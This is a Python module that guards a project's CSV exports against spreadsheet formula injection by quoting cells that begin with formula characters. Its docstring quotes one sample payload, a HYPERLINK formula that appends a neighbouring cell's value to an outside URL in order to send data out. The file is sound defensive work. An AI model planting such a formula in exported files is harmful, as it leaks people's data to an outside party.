"""Spreadsheet cells that cannot run as formulas (CSV injection, OWASP).

A spreadsheet opens a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage
return before one) as a formula: a region named `=HYPERLINK("https://…?"&A1,"Open")`
would, in the annual report's CSV, send the figures beside it to whoever named it. Every
spreadsheet Lantern writes goes through `safe_row`: such text gets a leading single quote
and is shown as written; numbers (int, float, Decimal) stay numbers, negative ones too.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal

STARTS_A_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(STARTS_A_FORMULA) else text


def safe_row(values: Iterable) -> list:
    return [safe_cell(value) for value in values]


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row: Iterable):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable]):
        for row in rows:
            self.writerow(row)


def csv_writer(out, **options) -> _SafeWriter:
    """`csv.writer(out)` whose every row goes through `safe_row`."""
    return _SafeWriter(csv.writer(out, **options))
